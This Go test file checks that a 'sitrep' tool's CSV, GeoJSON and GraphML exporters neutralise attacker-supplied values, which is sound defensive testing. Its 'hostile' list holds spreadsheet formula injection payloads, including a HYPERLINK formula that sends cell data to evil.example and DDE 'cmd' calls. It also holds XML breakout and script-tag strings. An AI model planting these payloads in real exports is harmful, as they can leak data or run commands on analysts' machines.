package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"strings"
	"testing"

	"sitrep"
	"sitrep/internal/store"
)

// hostile are values an attacker can put into a report (its title, its
// sentences, an actor's name) to attack whoever opens an export.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`</data></node><node id="x"><![CDATA[`,
	`"quoted", with, commas` + "\nand a newline",
	"control \x01\x02 bytes and \u2028 separators <script>alert(1)</script> & 'amp'",
}

func hostileEvent(v string) store.Event {
	lat, lon := -33.9, -18.4
	one := 1
	return store.Event{Key: "sha256:" + strings.Repeat("ab", 32) + "#e1", DocID: "sha256:" + strings.Repeat("ab", 32),
		Title: v, Outlet: v, Published: "2025-01-02",
		Event: sitrep.Event{ID: "e1", Type: sitrep.Protest, Modality: sitrep.Asserted,
			Date:         &sitrep.Date{Start: "2025-01-01", End: "2025-01-01", Precision: sitrep.PrecisionDay, Text: v},
			Place:        &sitrep.Place{Name: v, Admin1: v, Country: "ZA", Lat: &lat, Lon: &lon, Precision: sitrep.PlaceTown},
			Perpetrators: []sitrep.ActorRef{{ID: v, Name: v}},
			Targets:      []sitrep.ActorRef{{Name: v}},
			Killed:       &sitrep.Count{Low: &one, Best: &one, High: &one, Text: v},
			Evidence:     []sitrep.Span{{Start: 0, End: len(v), Text: v}}}}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"Quetta":       "Quetta",
		"=1+1":         "'=1+1",
		"+1":           "'+1",
		"-1+1":         "'-1+1",
		"-":            "'-",
		"@x":           "'@x",
		"\tx":          "'\tx",
		"\rx":          "'\rx",
		"-33.9":        "-33.9",
		"-18":          "-18",
		"-1.":          "'-1.",
		"-.5":          "'-.5",
		"-1e5":         "'-1e5",
		"a=1":          "a=1",
		" =1":          " =1",
		"'=1":          "'=1",
		"15":           "15",
		"sha256:ab#e1": "sha256:ab#e1",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVNeutralisesFormulas: no cell of the export begins with a formula
// character unless it is a plain number, and each hostile value is still
// there, behind its quote, for the analyst to read.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, v := range hostile {
		var buf bytes.Buffer
		w := NewCSV(&buf)
		if err := w.Write(hostileEvent(v)); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		rows := neutralRows(t, v, &buf, CSVColumns)
		col := map[string]string{}
		for i, c := range CSVColumns {
			col[c] = rows[1][i]
		}
		if col["latitude"] != "-33.9" || col["longitude"] != "-18.4" {
			t.Errorf("%q: coordinates changed: %s, %s", v, col["latitude"], col["longitude"])
		}
		// encoding/csv reads a lone CR in a quoted field as written.
		if want := SafeCell(v); col["location"] != want && col["location"] != strings.ReplaceAll(want, "\r\n", "\n") {
			t.Errorf("%q: location = %q, want %q", v, col["location"], want)
		}
	}
}

// TestGeoJSONEscapes: every hostile value is a JSON string that decodes
// to itself, and no markup reaches the output unescaped.
func TestGeoJSONEscapes(t *testing.T) {
	for _, v := range hostile {
		var buf bytes.Buffer
		g := NewGeoJSON(&buf)
		if err := g.Write(hostileEvent(v)); err != nil {
			t.Fatal(err)
		}
		if err := g.Close(); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		for _, raw := range []string{"<", ">", "&", "\u2028", "\x01"} {
			if strings.Contains(out, raw) {
				t.Errorf("%q: output holds %q unescaped", v, raw)
			}
		}
		var fc struct {
			Features []struct {
				Properties struct {
					Location     string
					Source       string
					Perpetrators []string
				}
			}
		}
		if err := json.Unmarshal(buf.Bytes(), &fc); err != nil || len(fc.Features) != 1 {
			t.Fatalf("%q: %v", v, err)
		}
		p := fc.Features[0].Properties
		if p.Location != v || p.Source != v || len(p.Perpetrators) != 1 || p.Perpetrators[0] != v {
			t.Errorf("%q: round trip gave %+v", v, p)
		}
	}
}

// TestGraphMLEscapes: the document stays well-formed GraphML with exactly
// the nodes and edges written, and every value reads back as written
// (characters XML cannot hold become U+FFFD; CR and LF are written as
// character references, so they survive a parser's newline folding).
func TestGraphMLEscapes(t *testing.T) {
	for _, v := range hostile {
		var buf bytes.Buffer
		g := NewGraphML(&buf)
		if err := g.AddActor(store.Actor{ID: v, Name: v, Type: v, Country: v}); err != nil {
			t.Fatal(err)
		}
		c := store.Claim{Key: v, DocID: v, Outlet: v, Published: v, Claim: sitrep.Claim{ID: "c1",
			Speaker: sitrep.ActorRef{ID: v, Name: v}, Cue: v, Text: v,
			Relation: &sitrep.Relation{Type: v, Subject: sitrep.ActorRef{ID: v, Name: v}, Object: sitrep.ActorRef{ID: "other", Name: v}}}}
		if err := g.AddClaim(c); err != nil {
			t.Fatal(err)
		}
		if err := g.Close(); err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Graph struct {
				Nodes []struct {
					ID   string `xml:"id,attr"`
					Data []struct {
						Key   string `xml:"key,attr"`
						Value string `xml:",chardata"`
					} `xml:"data"`
				} `xml:"node"`
				Edges []struct {
					Source string `xml:"source,attr"`
					Target string `xml:"target,attr"`
					Data   []struct {
						Key   string `xml:"key,attr"`
						Value string `xml:",chardata"`
					} `xml:"data"`
				} `xml:"edge"`
			} `xml:"graph"`
		}
		if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
			t.Fatalf("%q: not well-formed: %v\n%s", v, err, buf.String())
		}
		want := strings.Map(func(r rune) rune {
			if r < 0x20 && r != '\t' && r != '\n' && r != '\r' {
				return '\uFFFD'
			}
			return r
		}, v)
		if len(doc.Graph.Nodes) != 2 || len(doc.Graph.Edges) != 1 {
			t.Fatalf("%q: %d nodes, %d edges", v, len(doc.Graph.Nodes), len(doc.Graph.Edges))
		}
		e := doc.Graph.Edges[0]
		if e.Target != "other" || e.Source != want || doc.Graph.Nodes[0].ID != want {
			t.Errorf("%q: node %q, edge %q -> %q", v, doc.Graph.Nodes[0].ID, e.Source, e.Target)
		}
		for _, d := range append(doc.Graph.Nodes[0].Data[:1], e.Data...) {
			if d.Key != "claim" && d.Key != "relation" && d.Key != "source" && d.Value != want {
				t.Errorf("%q: data %s = %q, want %q", v, d.Key, d.Value, want)
			}
		}
	}
}

// TestIncidentCSVNeutralisesFormulas: the incident export goes through the
// same neutralising table as the event export.
func TestIncidentCSVNeutralisesFormulas(t *testing.T) {
	for _, v := range hostile {
		var buf bytes.Buffer
		w := NewIncidentCSV(&buf)
		inc := Incident{}
		inc.ID, inc.Type = "inc-1", v
		inc.Place = &sitrep.Place{Name: v, Country: "ZA"}
		if err := w.Write(inc); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		neutralRows(t, v, &buf, IncidentCSVColumns)
	}
}

// neutralRows reads the header and the one row written for hostile value v
// and reports every cell that begins with a formula character and is no
// plain number.
func neutralRows(t *testing.T, v string, buf *bytes.Buffer, columns []string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(buf).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%q: %d rows, %v", v, len(rows), err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
			t.Errorf("%q: column %s starts with %q: %q", v, columns[i], cell[:1], cell)
		}
	}
	return rows
}
